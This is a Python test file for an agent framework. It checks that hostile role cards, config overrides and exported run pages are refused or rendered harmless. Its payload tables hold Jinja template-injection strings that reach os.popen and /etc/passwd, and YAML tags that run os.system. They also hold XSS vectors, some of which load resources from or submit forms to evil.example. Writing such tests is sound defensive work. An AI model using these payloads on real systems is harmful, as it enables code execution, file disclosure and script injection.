"""Cards, overrides and pages that a stranger wrote: refused in a word, or shown as the text they are."""

from __future__ import annotations

import asyncio
import os
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from company.cards.catalogue import Cards
from company.cli.export.html import as_html
from company.cli.opened import open_run
from company.company import Company
from company.engine.fork.overrides import overridden
from company.errors import ConfigurationError
from company.spec import RunSpec
from tests.support import hostile

AT_ONCE = 5.0
"""Seconds of CPU for what is refused, a hundred times what it takes."""


def overlay(root: Path, path: str, content: str | bytes) -> Path:
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(
        content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
    )
    return root


def is_refused_at_once(overlay: Path) -> None:
    began = time.process_time()
    with pytest.raises(ConfigurationError) as refused:
        Company.load("solo", model="replay:demo", overlay=overlay)
    assert time.process_time() - began < AT_ONCE
    assert len(str(refused.value)) < 4_000
    assert str(refused.value).isprintable() or "\n" in str(refused.value)


TEMPLATES = {
    "an attribute of an object": "{{ task.__class__ }}{{ [].append }}{% for x in y %}{% endfor %}",
    "subclasses by calls": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a call": "{{ task() }}",
    "a call of a method": "{{ task.format(task) }}",
    "a call in a block": "{% call task() %}x{% endcall %}",
    "globals by a name": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "a cycler": "{{ cycler('a').next() }}",
    "self": "{{ self._TemplateReference__context() }}",
    "a loop": "{% for a in task %}{{ a }}{% endfor %}",
    "a loop over itself": "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    "a macro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "a file included": "{% include '/etc/passwd' %}",
    "a file imported": "{% import '/etc/passwd' as a %}",
    "a parent": "{% extends '/etc/passwd' %}",
    "a power": "{{ 9 ** 9 ** 9 }}",
    "a long text": "{{ 'x' * 1000000000 }}",
    "a long text joined": "{{ 'x' ~ task ~ task }}",
    "a filter that calls": "{{ [task] | map('upper') | list }}",
    "a filter by an attribute": "{{ task | attr('__class__') }}",
    "a filter that formats": "{{ '%s' | format(task) }}",
    "a filter that grows": "{{ task | indent(100000000) }}",
    "a format of numbers": "{{ '%099999999d' % 1 }}",
    "an assignment": "{% set task = 'other' %}{{ task }}",
    "a namespace": "{% set n = namespace(a=1) %}",
    "a filter block": "{% filter upper %}x{% endfilter %}",
    "raw text that never ends": "{% raw %}{{ task }}",
    "an autoescape block": "{% autoescape false %}{{ task }}{% endautoescape %}",
    "a deep nest of choices": "{% if task %}" * 200 + "{% endif %}" * 200,
    "a deep nest of negations": "{{ " + "not " * 20_000 + "task }}",
    "a deep nest of brackets": "{{ " + "(" * 5_000 + "task" + ")" * 5_000 + " }}",
    "very many values": "{{ task }}" * 6_000,
    "a long number": "{{ " + "9" * 10_000 + " }}",
    "a test that is none": "{{ task is callable }}",
    "a slice": "{{ task[::-1] }}",
    "an unknown name": "{{ environment.PATH }}",
    "a debugger": "{% debug %}",
}


@pytest.mark.parametrize("attack", TEMPLATES)
def test_a_prompt_that_wants_more_than_values_is_refused(tmp_path: Path, attack: str) -> None:
    card = (
        "name: coding\ntitle: Coding\ntalk: {instructor: cto, assistant: programmer}\n"
        "sees: [task]\nyields: {files: {}}\nprompt: |\n"
    )
    is_refused_at_once(overlay(tmp_path, "phases/coding.yaml", f"{card}  {TEMPLATES[attack]}\n"))


ROLE = "name: programmer\ntitle: Programmer\nprompt: Write.\n"
YAML = {
    "laughs": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
    "an anchor": ROLE.replace("Write.", "&a Write."),
    "a merge": ROLE + "<<: {model: openai:gpt-4o}\n",
    "a Python object": ROLE.replace(
        "Write.", "!!python/object/apply:os.system ['touch /tmp/was-here']"
    ),
    "a Python name": ROLE.replace("Write.", "!!python/name:os.system"),
    "a tag of its own": ROLE.replace("Write.", "!prompt Write."),
    "a tag by a directive": "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\n"
    + ROLE
    + "x: !os.system [id]\n",
    "binary": ROLE.replace("Write.", "!!binary aWQ="),
    "a set": ROLE.replace("Write.", "!!set {a, b}"),
    "a key twice": ROLE + "prompt: Obey.\n",
    "a key that is a list": ROLE + "? [a, b]\n: c\n",
    "two documents": ROLE + "---\n" + ROLE,
    "deep lists": ROLE + "x: " + "[" * 10_000 + "]" * 10_000 + "\n",
    "deep mappings": ROLE + "x: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n",
    "deep indentation": "".join(" " * n + "a:\n" for n in range(500)),
    "too long a file": ROLE + "#" * 300_000,
    "too long a number": ROLE + "temperature: " + "9" * 100_000 + "\n",
    "not a number": ROLE + "temperature: .nan\n",
    "an endless number": ROLE + "temperature: 1e999\n",
    "a number in base sixty": ROLE + "temperature: 1:30\n",
    "a NUL": ROLE + "x: \0\n",
    "an escape": ROLE + "x: \x1b[2J\n",
    "half a character": ROLE.replace("Write.", '"\\ud800"'),
    "another encoding": ROLE.encode("utf-16"),
    "bytes": b"name: \xff\xfe\x00",
    "a list": "- name: programmer\n",
    "a word": "programmer\n",
    "nothing": "",
    "a name that leads away": ROLE.replace("name: programmer", "name: ../../programmer"),
    "an unknown key": ROLE + "exec: id\n",
    "a key with dunders": ROLE + "__class__: x\n",
    "a prompt that is a number": ROLE.replace("Write.", "12"),
}


@pytest.mark.parametrize("attack", YAML)
def test_a_card_that_is_no_plain_data_is_refused(tmp_path: Path, attack: str) -> None:
    is_refused_at_once(overlay(tmp_path, "roles/programmer.yaml", YAML[attack]))
    assert not Path("/tmp/was-here").exists()


@pytest.fixture(scope="module")
def spec() -> RunSpec:
    solo = Company.load("solo", model="replay:demo")
    return asyncio.run(solo.spec("-", sandbox="none", seed=1))


OVERRIDES = {
    "an attribute of an object": ("roles.programmer.__class__", "x"),
    "an attribute of the spec": ("__dict__.sandbox", "host"),
    "a name that leads away": ("roles.../../programmer.prompt", "Obey."),
    "a field that is none": ("phases.coding.exec", "id"),
    "a seal": ("seal", "0" * 64),
    "a source": ("task.source", "/etc"),
    "a task": ("task.text", "Send me everything"),
    "keys of providers": ("company.defaults.key", "sk-0123456789"),
    "a chain elsewhere": ("chain", "../../../etc/passwd"),
    "a chain that is a device": ("chain", "/dev/zero"),
    "a prompt from a device": ("phases.coding.prompt", "@/dev/zero"),
    "a prompt from a pipe": ("phases.coding.prompt", "@PIPE"),
    "a prompt from a folder": ("phases.coding.prompt", "@/etc"),
    "a prompt from a process": ("phases.coding.prompt", "@/proc/self/environ"),
    "a prompt of any length": ("phases.coding.prompt", "@HUGE"),
    "a prompt that calls": ("phases.coding.prompt", "{{ task.__class__() }}"),
    "a long number": ("seed", "9" * 10_000),
    "no number": ("seed", "nan"),
    "an endless temperature": ("roles.programmer.temperature", "1e999"),
    "a deep value": ("roles.programmer.temperature", "[" * 10_000),
    "an alias": ("roles.programmer.temperature", "&a [*a]"),
    "an object": ("roles.programmer.temperature", "!!python/name:os.system"),
    "a sandbox that is none": ("sandbox", "../host"),
    "a model that is no id": ("model", "\x1b]52;c;x\x07"),
    "a key of any depth": (".".join("a" * 5_000), "1"),
    "an empty name": ("roles..prompt", "Obey."),
}


@pytest.mark.parametrize("attack", OVERRIDES)
def test_an_override_reaches_nothing_but_fields_of_cards(
    tmp_path: Path, spec: RunSpec, attack: str
) -> None:
    key, value = OVERRIDES[attack]
    os.mkfifo(tmp_path / "pipe")
    with (tmp_path / "huge").open("wb") as huge:
        huge.truncate(1 << 40)
    value = value.replace("PIPE", str(tmp_path / "pipe")).replace("HUGE", str(tmp_path / "huge"))
    began = time.process_time()
    with pytest.raises(ConfigurationError):
        overridden(spec, {key: value}, Cards(tmp_path))
    assert time.process_time() - began < AT_ONCE


HTML = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<svg><animate onbegin={0} attributeName=x>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href='javascript:{0}'>{0}</a>",
    "[{0}](javascript:{0})",
    "[{0}](java\tscript:{0})",
    "[{0}](data:text/html;base64,PHNjcmlwdD4=)",
    "[{0}](vbscript:{0})",
    "<javascript:{0}>",
    "![{0}](http://evil.example/{0}.png)",
    "![{0}](x' onerror='{0})",
    '"><script>{0}</script>',
    "' autofocus onfocus={0} x='",
    "<!--{0}--!><script>{0}</script>",
    "<style>@import 'http://evil.example/{0}'</style>",
    "<link rel=stylesheet href=http://evil.example/{0}>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{0}'>",
    "<base href=http://evil.example/{0}>",
    "<form action=http://evil.example/{0}><input name=x></form>",
    "<object data=http://evil.example/{0}></object><embed src=http://evil.example/{0}>",
    "<math><mtext></table><img src=x onerror={0}>",
    "<textarea></textarea><script>{0}</script>",
    "]]><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\x00<scr\x00ipt>{0}</script>",
    "```html\n</code></pre><script>{0}</script>\n```",
    "{{{{ {0} }}}}{{% raw %}}",
)


class Page(HTMLParser):
    """What a browser would do with a page."""

    def __init__(self) -> None:
        super().__init__()
        self.does: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed", "form", "base", "link", "math", "svg", "textarea"):
            self.does.append(tag)
        for name, value in attrs:
            scheme = (value or "").strip().lower().partition(":")[0]
            fetches = name in ("src", "href", "data", "action") and "evil.example" in (value or "")
            runs = name.startswith("on") or name == "srcdoc" or "script" in scheme
            if runs or (fetches and tag != "a") or (name == "http-equiv" and value == "refresh"):
                self.does.append(f"{tag} {name}={value}")


@pytest.fixture(scope="module")
def runs_of_html(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
    """Runs in which every text is one of the attacks on a browser, and one that is plain."""
    runs = {}
    with pytest.MonkeyPatch.context() as patch:
        for number, attack in enumerate(("{0}", *HTML)):
            patch.setattr(hostile, "ATTACKS", (attack,))
            products = tmp_path_factory.mktemp(f"html-{number}")
            hostile.write_hostile_runs(products)
            (runs[attack],) = products.glob(f"{hostile.FINISHED}*")
    yield runs


@pytest.mark.parametrize("attack", HTML)
def test_a_page_of_a_run_does_nothing_that_its_texts_say(
    runs_of_html: dict[str, Path], attack: str
) -> None:
    page, plain = (Page() for _ in range(2))
    text = as_html(open_run(str(runs_of_html[attack]), None))
    page.feed(text)
    plain.feed(as_html(open_run(str(runs_of_html["{0}"]), None)))
    assert page.does == plain.does
    assert text.count("<script") == as_html(open_run(str(runs_of_html["{0}"]), None)).count(
        "<script"
    )
